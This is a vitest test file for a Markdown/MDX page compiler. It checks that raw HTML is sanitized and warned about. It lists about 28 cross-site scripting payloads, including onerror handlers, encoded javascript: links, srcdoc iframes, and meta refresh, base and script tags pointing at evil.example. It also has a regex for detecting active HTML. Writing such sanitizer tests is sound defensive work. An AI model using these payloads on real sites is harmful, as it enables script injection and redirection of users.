import { expect, test } from 'vitest'
import { compileText, page, shortFault } from '../../tests/compile-text.ts'

/** What readers would get of a page, as one text. */
async function sentOf(body: string, format: 'md' | 'mdx') {
  const { compiled, faults } = await compileText(page(body), { format })
  return { sent: JSON.stringify(compiled?.page.tree ?? ''), faults: faults.map(shortFault) }
}

/** Ways to run code, to load another page or to leave the page, as HTML that strangers write. */
const hostile = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<div><svg/onload=alert(1)></svg></div>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  "<a href='&#x6A;avascript:alert(1)'>x</a>",
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<p>Words <img src=x onerror=alert(1)> in a sentence.</p>',
]

const active =
  /<[^>]*\son[a-z]+\s*=|<\/?(?:script|meta|base|iframe|object|embed|link|style)[\s>/]|(?:href|src|action|data)\s*=\s*\\?["']?\s*(?:java|vb)script|srcdoc|attributename=\\?["']?(?:xlink:)?href/i

test.each(hostile)('raw HTML of a Markdown page runs no script and gives a warning: %s', async (body) => {
  const { sent, faults } = await sentOf(`Before.\n\n${body}\n\nAfter.`, 'md')
  const tags = sent.match(/<[a-z/][^>]*>/gi)?.join('') ?? ''
  expect(tags).not.toMatch(active)
  expect(faults.length).toBeGreaterThan(0)
  expect(faults.join()).toMatch(/docs\/page\.mdx:\d+:\d+ /)
})

test('HTML that authors use stays as it is', async () => {
  const body = '<div class="note" style="width: 50%"><kbd>Ctrl</kbd> <a href="https://e.example">x</a></div>'
  const { sent, faults } = await sentOf(body, 'md')
  expect(sent).toContain(JSON.stringify(body).slice(1, -1))
  expect(faults).toEqual([])
})

test.each([
  ["export const T = 'img src=x onerror=alert(1) '\n\n{<T/>}", 'is not an HTML element'],
  ['<form action="javascript:alert(1)">x</form>', '`action` of `<form>` would run code'],
  ['<button formAction="javascript:alert(1)">x</button>', 'would run code'],
  ['<area href="javascript:alert(1)" />', '`href` of `<area>` would run code'],
  ['<svg><a xlink:href="javascript:alert(1)">x</a></svg>', 'would run code'],
])('an address or a name that would run code is an error of the MDX page: %s', async (body, message) => {
  const { faults } = await compileText(page(body))
  const found = faults.map(shortFault).find((fault) => fault.includes(message))
  expect(found).toMatch(/^docs\/page\.mdx:\d+:\d+ /)
})
